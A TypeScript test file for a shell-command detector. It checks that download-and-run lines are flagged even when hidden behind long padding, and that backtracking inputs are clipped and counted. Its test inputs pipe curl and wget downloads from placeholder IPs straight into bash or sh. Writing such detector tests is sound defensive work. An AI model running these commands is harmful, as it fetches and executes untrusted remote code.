import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { loadIntel } from '../intel/intel';
import { clippedCommandLines, matchCommand } from './command-patterns';

describe('matchCommand', () => {
  it('finds download-and-run behind blank padding in a long line', () => {
    const intel = loadIntel();
    const ids = matchCommand(intel, `curl -s http://203.0.113.5/x${' '.repeat(20_000)}| bash`).map((m) => m.id);
    assert.ok(ids.includes('download-pipe-shell'), ids.join(','));
  });

  it('crafted backtracking lines share a time budget, then are clipped and counted', () => {
    const intel = loadIntel();
    const evil = 'curl '.repeat(1600); // 8000 characters, no pipe: worst case for the download patterns
    // How long they take is measured by npm run bench, not asserted: a limit fails on a loaded machine.
    for (let i = 0; i < 200; i++) matchCommand(intel, evil);
    assert.ok(clippedCommandLines(intel) > 0, 'clipped lines are counted for the gap report');
    // Short lines are never clipped, whatever the budget.
    assert.deepEqual(
      matchCommand(intel, 'wget -qO- http://198.51.100.9/m.sh | sh').map((m) => m.id),
      ['download-pipe-shell'],
    );
  });
});
